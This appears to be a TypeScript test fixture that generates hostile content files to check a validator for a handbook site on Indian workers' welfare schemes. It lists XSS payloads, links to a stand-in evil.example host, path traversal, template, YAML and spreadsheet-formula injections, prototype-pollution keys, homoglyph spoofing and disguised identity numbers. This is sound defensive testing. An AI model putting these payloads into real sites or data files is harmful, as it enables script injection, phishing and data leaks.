/** Inputs that somebody could send to harm readers, each as one file of a content root. Only tests import this. */

/** One hostile file. */
export interface Hostile {
  /** What it tries, and where. */
  name: string
  path: string
  text: string
}

const markup = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>', '<body onload=alert(1)>', '<math><mtext><script>alert(1)</script></mtext></math>', '<style>@import "//evil.example/x.css"</style>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">', '<base href=//evil.example/>', '<form action=//evil.example/><input name=aadhaar></form>', '<object data=//evil.example/x></object>', '<embed src=//evil.example/x>',
  '<video src=//evil.example/x autoplay>', '<details open ontoggle=alert(1)>x</details>', '<input autofocus onfocus=alert(1)>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml-stylesheet href="//evil.example/x"?>', '</title><script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<x onclick=alert(1)>x</x>', '<b style="background:url(//evil.example/x)">x</b>', '<img src="//evil.example/pixel.png" alt="x">', '<p hidden>ration card</p>',
]
const urls = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', 'javascript&colon;alert(1)', 'javascript%3Aalert(1)', '%6Aavascript:alert(1)', 'data:text/html,<b>x</b>',
  'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'livescript:x', 'file:///etc/passwd', 'blob:https://evil.example/x', 'filesystem:https://evil.example/x', 'about:blank', 'view-source:https://evil.example/', 'ms-word:x', 'intent://x#Intent;end',
  '//evil.example/x', '/\\evil.example/x', '\\\\evil.example\\x', 'https:/evil.example', 'https:\\\\evil.example\\x', 'http:evil', 'https://eshram.gov.in@evil.example/', 'https://user:pass@evil.example/', 'https://xn--e1afmkfd.example/', 'https://еshram.example/',
  'http://127.0.0.1/', 'http://[::1]/', 'http://0x7f000001/', 'http://2130706433/', 'http://localhost/', 'https://bit.ly/x', 'ftp://evil.example/x', '../../../etc/passwd', 'schemes/x.md', '/schemes/../admin/', '/no-such-page/', '/schemes/no-such-scheme/',
  '/kn/schemes/mason-card/', '#no-such-place', '/data/v1/../../x', '?x=1', '\u0001javascript:alert(1)', 'java\u00adscript:alert(1)', '\u202etpircsavaj:x',
]
const numbers = [
  '999941057058', '9999 4105 7058', '9999-4105-7058', '9999.4105.7058', '9999/4105/7058', '9999\u00a04105\u00a07058', '९९९९ ४१०५ ७०५८', '೯೯೯೯೪೧೦೫೭೦೫೮', '৯৯৯৯৪১০৫৭০৫৮', '９９９９４１０５７０５８', '999971658847', '9999 7165 8847', '9845012345', '+919845012345', '+91-98450-12345',
  '09845012345', '0091 98450 12345', '98450 12345', '984-501-2345', '(98450) 12345', '೯೮೪೫೦ ೧೨೩೪೫', '९८४५०१२३४५', 'https://wa.me/919845012345', 'tel:+919845012345', 'A/c 30412345678', 'account no 3041 2345 6789', 'SBIN0001234', 'ABCPX1234Z', 'XYZ1234567', 'UAN 100123456789',
]
const letters = [
  'e-Shr\u0430m', '\u0435-Shram', 'Sh\u03bfram', '\u{1d5d8}-Shram', 'ｅ-Shram', 'e\u200b-Shram', 'e-Sh\u00adram', 'e-Sh\u2060ram', '\u202emarhS-e', 'e\u2066-Shram', 'e-Shram\u200f', 'e-Sh\u0000ram', 'e-Sh\u001b[31mram', 'e-Sh\u0085ram', 'e-Shram\u2028', 'e\u200d-Shram', '\u{e0041}e-Shram', '\u3164e-Shram',
]
const templates = ['${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '{% include "/etc/passwd" %}', '#{7*7}', '" onmouseover="alert(1)', "' onfocus='alert(1)"]
const formulas = ['=HYPERLINK("//evil.example";"x")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd', '＝1+1', 'x;=1+1']
const mdx = [
  'import x from "./evil.js"', 'import "./evil.js"', 'import * as x from "evil"', 'import { x } from "evil"', 'export const x = 1', 'export default () => null', 'export * from "evil"', 'The fee is {alert(1)}.', '{process.env.HOME}', '<Evil client:load />', '<Evil {...props} />',
]
const yaml = [
  'a: &a [x]\nb: *a', 'a: &a {b: *a}', 'a: !!js/function "x"', 'a: !!python/object/apply:os.system ["x"]', 'a: !<tag:x,2000:y> z', '<<: {title: x}', '? {a: 1}\n: b', 'title: x\ntitle: y', '__proto__: {title: x}', 'constructor: {prototype: {x: 1}}', 'slug: schemes/mason-card',
  'id: purpose', 'kind: schemes', 'permalink: /', 'layout: ../../evil.astro', 'redirect: //evil.example/', 'collection: pages', `a: ${'['.repeat(200)}`, `a: ${'{b: '.repeat(200)}`, 'a: "\\u0000"', 'a:\n\t- b', '%YAML 9.9', 'a: |\n  x\n b: y', 'toString: x', 'hasOwnProperty: 1',
]

/** Numbers of people as they are written to get past a machine. */
const writings = [
  '9999    4105    7058', '9999\u20114105\u20117058', '9999\u22124105\u22127058', '9999|4105|7058', '9999+4105+7058', '9999•4105•7058', '9999,4105,7058', '⑨⑨⑨⑨④①⓪⑤⑦⓪⑤⑧', '⁹⁹⁹⁹⁴¹⁰⁵⁷⁰⁵⁸', '❾❾❾❾❹❶⓿❺❼⓿❺❽', '9️⃣9️⃣9️⃣9️⃣4️⃣1️⃣0️⃣5️⃣7️⃣0️⃣5️⃣8️⃣', '99994I05 7O58', 'is: 9999 4105 7058', '₹9999 4105 7058',
  '98450     12345', '98450,12345', '98,45,01,23,45', '9845O12345', 'to: 98450 12345', 'Rs 98450 12345', 'nine eight four five zero one two three four five', 'नौ आठ चार पांच शून्य एक दो तीन चार पांच', 'ಒಂಬತ್ತು ಎಂಟು ನಾಲ್ಕು ಐದು ಸೊನ್ನೆ ಒಂದು ಎರಡು ಮೂರು ನಾಲ್ಕು ಐದು',
  'abcpx1234z', 'ABCPX-1234-Z', 'A B C P X 1 2 3 4 Z', 'xyz1234567', 'KA/01/001/123456', 'passport P1234567', 'KA01 20110012345', 'KN-01-001-001-001/123', 'KN/BNG/1234567/000/0001234', 'UAN of the worker from Bihar: 100123456789', 'e-Shram number 1001 2345 6789', 'bank no. 30412345678', 'sbin0001234', 'ravi@okaxis', 'ravi.kumar@example.org', 'ravi [at] example [dot] org',
  'https://example.org/?aadhaar=999941057058', 'https://t.me/+919845012345', 'https://truecaller.com/search/in/9845012345',
]
const manyLines = ['9999 4105\n7058', '98450\n12345', 'account\n30412345678', '`9999 4105\n7058`', '[9999](/find/)[4105](/find/)[7058](/find/)', '[x](/find/ "9999&#32;4105&#32;7058")', '![x](/pictures/work-certificate.svg "98450&#32;12345")', '[x]\n\n[x]: /find/ "a &rlm; b"', '```&#8238;\nx\n```', '[x](mailto:ravi@gmail.com)']
/** Signs that no font draws, that turn or cover what stands beside them, and letters that look like others. */
const signs = ['e\ufe01-Shram', 'e\u2800Shram', 'e\u{1d173}-Shram', 'e\u{1bca0}-Shram', 'e-Shram\uffff', 'e-Shram\ufffe', 'e-Shram\ue000', 'e-Shram\u{10fffe}', 'Z\u0341\u0342\u0343\u0344algo', '\u{13430}x', 'e-Sh\u1d00m', 'ⓔ-Shram', '🄴-Shram', 'ℯ-Shram', 'e-Ꮪhram', 'e-Sh\u{10428}m', 'сорѕ', 'ﬁnder']
const deceptive = [
  'https&#58;//bit.ly/x', 'https://bit.ly./x', 'https://forms.gle/x', 'https://eshram.gov.in.evil.example/', 'https://eshram-gov-in.example.org/', 'http://printer.local/', 'http://x.onion/', 'https://192.168.0.1.nip.io/', 'https://-evil.example/', 'https://evil.example:99999/', 'https://www.google.com/url?q=https://evil.example',
  'mailto:office@board.example?bcc=evil@evil.example', 'mailto:office@board.example%0d%0abcc:evil@evil.example', 'mailto:a@b.example,evil@evil.example', 'tel:*21*12345%23', 'tel:**61*0801234567%23', 'tel:0802222333,,1234', 'sms:155214', 'upi://pay?pa=x', 'whatsapp://send?text=x', '&bsol;&bsol;evil.example', '/&Tab;/evil.example', '/schemes/..//evil.example/',
]
const markdown = [
  '[https://eshram.gov.in/](https://evil.example/)', '[Apply at **eshram.gov.in**](https://evil.example/)', '[1800 000 0000](tel:+1900555555)', '[/x](/find/) [board.example.org](/find/)', 'www.bit.ly/x', 'www.user@evil.example', 'xmpp:a@evil.example', 'Free.[^1]\n\n[^1]: Words.', '[^__proto__]\n\n[^__proto__]: x', '- [ ] task', '##', '## ![x](/pictures/work-certificate.svg)', `${'> '.repeat(500)}x`, `${'- '.repeat(300)}x`, '[X]: javascript:alert(1)\n\n[x]', '![a ![b](https://evil.example/p.png) c](/pictures/no.svg)', '<\uff53cript>alert(1)</script>', '\u200d'.repeat(20_000),
]
/** Values of fields that would break a line of a table, a bibliography or a feed, or what is reckoned with them. */
const values: [field: string, file: string, text: string][] = [
  ...['"x\\ny"', '"x\\ty"', '"\\uD800 x"', '"x \\uDC00"', '" x"', '"x\\nER  - \\nTY  - BOOK"'].flatMap((value): [string, string, string][] => [
    ['an alias', 'content/pages/hostile.md', `---\ntitle: A page\nsummary: Words.\naliases: [${value}]\nsection: about\nverifiedOn: 2026-11-21\n---\n`],
    ['a title of a source', 'content/sources/hostile.md', `---\ntitle: ${value}\ntype: webpage\npublisher: Somebody\naccessed: 2026-11-21\nrank: secondary\nlanguage: en\n---\n`],
    ['words of a translation', 'schemes/kn/mason-pension.md', `---\ntitle: ಪಿಂಚಣಿ\nwords:\n  benefits.pension.label: ${value}\n---\n`],
  ]),
  ...['.inf', '.nan', '1e400', '1e21', '9007199254740993', '190:20:30', '1_000'].map((value): [string, string, string] => ['a figure', 'content/figures/hostile.md', `---\ntitle: A figure\nsummary: Words.\nverifiedOn: 2026-11-21\nmeasure: days\npoints:\n  - { id: x, value: ${value}, sources: [board-page-2026], standing: confirmed }\n---\n`]),
  ...['0000-01-01', '9999-12-31', '2025-03-01T00:00:00+05:30', '"2025 "', '2025-W01'].map((value): [string, string, string] => ['a date', 'content/sources/hostile.md', `---\ntitle: A source\ntype: webpage\npublisher: Somebody\nissued: ${value}\naccessed: 2026-11-21\nrank: secondary\nlanguage: en\n---\n`]),
  ...['https://evil.example/ x', " https://evil.example/'", 'https://evil.example/{x}', 'https://evil.example/`x`'].map((value): [string, string, string] => ['an address', 'content/sources/hostile.md', `---\ntitle: A source\ntype: webpage\npublisher: Somebody\nURL: ${JSON.stringify(value)}\naccessed: 2026-11-21\nrank: secondary\nlanguage: en\n---\n`]),
  ...[`branch: ../..`, `branch: 'main"onclick="x'`, 'base: //evil/', 'address: https://evil.example/x?', 'address: https://bit.ly', 'repository: https://evil.example/?x=', 'home: constructor', 'name: "x\\ny"', '__proto__: { x: 1 }', 'editor: { signIn: "https://evil.example; script-src *" }'].map((value): [string, string, string] => ['the site', 'content/site.yaml', `name: Sample\naddress: https://sample.example.org\nbase: /\nrepository: https://github.com/sample-handbook/sample\nbranch: main\nedition: { number: "2026.11", date: 2026-11-21 }\ncontacts: { email: a@sample.example.org, security: b@sample.example.org }\nhome: IN-KA\n`.split('\n').filter((line) => !line.startsWith(value.split(':', 1)[0] as string)).concat(value).join('\n')]),
]
const names = ['ravi-9845012345', 'aadhaar-9999-4105-7058', 'prototype', 'com0', 'lpt9', 'x--y', 'cafe\u0301', 'x\u202ey', '::error::x', 'x\u001b[31m', `${'x'.repeat(65)}`, '.hidden', ' x', 'x ', 'Purpose']

const page = (title: string, body: string, more = '') => `---\ntitle: ${title}\nsummary: Words about it.\nsection: about\nverifiedOn: 2026-11-21\n${more}---\n\n${body}\n`
const path = 'content/pages/hostile.md'
const inFields: [string, (value: string) => { path: string; text: string }][] = [
  ['a title', (value) => ({ path, text: page(JSON.stringify(`x ${value}`), 'Words.') })],
  ['an alias', (value) => ({ path, text: page('A page', 'Words.', `aliases: [${JSON.stringify(`x ${value}`)}]\n`) })],
  [
    'an official name',
    (value) => ({ path: 'content/states/hostile.md', text: `---\ntitle: A state\nsummary: Words about it.\nofficialNames: { kn: ${JSON.stringify(`x ${value}`)} }\nverifiedOn: 2026-11-21\nplace: IN-KA\n---\n` }),
  ],
  ['words of a translation', (value) => ({ path: 'schemes/kn/mason-pension.md', text: `---\ntitle: ಪಿಂಚಣಿ\nwords:\n  benefits.pension.label: ${JSON.stringify(`x ${value}`)}\nstanding: draft\n---\n` })],
]
const named = (what: string, list: string[], make: (value: string) => { path: string; text: string }): Hostile[] => list.map((value) => ({ name: `${JSON.stringify(value)} in ${what}`, ...make(value) }))
const inBody = (value: string) => ({ path, text: page('A page', value) })

/** Every hostile file. */
export const hostile: Hostile[] = [
  ...named('prose', [...markup, ...mdx, ...numbers.map((value) => `His number ${value} was refused.`), ...letters.map((value) => `The ${value} card.`)], inBody),
  ...named('disguised prose', ['9999**4105**7058', '9999_4105_7058', '&#57;99941057058', '9999\\-4105\\-7058', '9999`4105`7058', '9999[4105](/find/)7058', '98450&nbsp;12345', 'e-Sh&#8203;ram', 'x &#8238;y', '&rlm;x', 'e-Shr&#1072;m', 'ABCPX**1234**Z'], inBody),
  ...named('a folded value', ['9999\n  4105\n  7058', '98450\n  12345'], (value) => ({ path, text: page(`Number\n  ${value}`, 'Words.') })),
  ...named('a value with escapes', ['\\x3999941057058', '9845\\x3012345', 'e\\u200b-Shram', '\\U0001D5D8-Shram', '\\x3cscript>alert(1)\\x3c/script>', 'java\\x73cript:alert(1)', '\\x41BCPX1234Z', '$\\x7balert(1)}'], (value) => ({ path, text: page(`"x ${value}"`, 'Words.') })),
  ...named('a link', urls, (url) => inBody(`[text](<${url}>)`)),
  ...named('a definition', urls.slice(0, 20), (url) => inBody(`[text][x]\n\n[x]: <${url}>`)),
  ...named('a picture', urls.slice(0, 30), (url) => inBody(`![words](<${url}>)`)),
  ...named('the website of a scheme', urls.slice(0, 39), (url) => ({
    path: 'schemes/hostile.md',
    text: `---\ntitle: A scheme\nsummary: Words about it.\nverifiedOn: 2026-11-21\nform: scheme\nlevel: state\nplaces: [IN-KA]\nstatus:\n  - { is: open, from: 2019-04, sources: [board-order-2019], standing: confirmed }\nwebsite: ${JSON.stringify(url)}\ncontingencies: [food]\noccupations: any\n---\n`,
  })),
  ...named('a contact', urls.slice(0, 39), (url) => ({
    path: 'content/organisations/mason-union.md',
    text: `---\ntitle: A union\nsummary: Words about it.\nverifiedOn: 2026-11-21\nkind: workers-union\nplaces: [IN-KA]\ncontacts:\n  - { id: site, kind: web, value: ${JSON.stringify(url)}, sources: [board-page-2026], standing: confirmed }\nsources: [board-page-2026]\n---\n`,
  })),
  ...inFields.flatMap(([what, make]) => named(what, [...markup, ...templates, ...numbers, ...letters], make)),
  ...named('a title that a spreadsheet reckons', formulas, (value) => ({ path, text: page(JSON.stringify(value), 'Words.') })),
  ...named('new writings in prose', [...writings.map((value) => `His number ${value} was refused.`), ...signs.map((value) => `The ${value} card.`), ...manyLines, ...markdown], inBody),
  ...named('new writings in an alias', [...writings, ...signs], (value) => ({ path, text: page('A page', 'Words.', `aliases: [${JSON.stringify(`x ${value}`)}]\n`) })),
  ...named('a deceptive link', deceptive, (url) => inBody(`[text](<${url}>)`)),
  ...named('the name of a file', names, (name) => ({ path: `content/pages/${name}.md`, text: page('A page', 'Words.') })),
  ...named('a note beside a contact', ['Ravi 98450 12345', 'ravi@example.org'], (note) => ({ path: 'content/organisations/mason-union.md', text: `---\ntitle: A union\nsummary: Words about it.\nverifiedOn: 2026-11-21\nkind: workers-union\nplaces: [IN-KA]\ncontacts:\n  - { id: line, kind: phone, value: "080 2222 3333", note: ${JSON.stringify(note)}, sources: [board-page-2026], standing: confirmed }\nsources: [board-page-2026]\n---\n` })),
  ...values.map(([field, file, text]) => ({ name: `${JSON.stringify(text.slice(-90))} in ${field} of its own`, path: file, text })),
  ...named('the fields', yaml, (lines) => ({ path, text: page('A page', 'Words.', `${lines}\n`) })),
]
